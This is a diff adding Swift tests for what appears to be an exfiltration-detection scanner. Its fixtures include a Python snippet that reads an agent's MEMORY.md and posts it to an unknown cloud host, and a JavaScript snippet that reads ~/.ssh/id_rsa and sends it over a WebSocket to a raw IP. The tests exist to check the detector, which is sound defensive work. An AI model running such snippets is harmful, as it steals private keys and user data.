@@ -401,3 +401,53 @@ extension ExfiltrationBehaviourTests {
     #expect(DocumentedService.minimumMentions == 4)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("A request object built for a model API carries its host to the call that sends it")
+  func requestObjectHost() throws {
+    let code = """
+      import json, urllib.request
+      from pathlib import Path
+      memory = (Path.home() / ".openclaw/workspace/MEMORY.md").read_text()
+      req = urllib.request.Request("https://api.openai.com/v1/chat/completions", data=json.dumps({"m": memory}).encode())
+      with urllib.request.urlopen(req, timeout=30) as r:
+          print(r.read())
+      """
+    let found = try findings("exfil-flow-context", Example(code, language: .python))
+    let send = try #require(found.first { $0.line == 5 })
+    #expect(send.message.contains("api.openai.com"))
+    #expect(send.confidence == .low)
+    #expect(found.allSatisfy { $0.chain == nil })
+  }
+
+  @Test("A request object built for an unknown host still chains at the send")
+  func requestObjectUnknownHost() throws {
+    let code = """
+      import json, urllib.request
+      from pathlib import Path
+      memory = (Path.home() / ".openclaw/workspace/MEMORY.md").read_text()
+      req = urllib.request.Request("https://sync.memvault-cloud.io/v1/put", data=json.dumps({"m": memory}).encode())
+      urllib.request.urlopen(req, timeout=30)
+      """
+    let found = try findings("exfil-flow-context", Example(code, language: .python))
+    let send = try #require(found.first { $0.line == 5 })
+    #expect(send.message.contains("sync.memvault-cloud.io"))
+    #expect(send.chain == .exfiltration)
+    #expect(send.confidence == .high)
+  }
+
+  @Test("A socket opened to a raw IP is the destination of what it sends")
+  func socketReceiverHost() throws {
+    let code = """
+      const fs = require('fs');
+      const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
+      const ws = new WebSocket('ws://198.51.100.7:8080/in');
+      ws.send(key);
+      """
+    let found = try findings("exfil-flow-credentials", Example(code, language: .javascript))
+    let send = try #require(found.first { $0.line == 4 })
+    #expect(send.message.contains("198.51.100.7"))
+    #expect(send.severity == .critical)
+    #expect(send.chain == .exfiltration)
+  }
+}
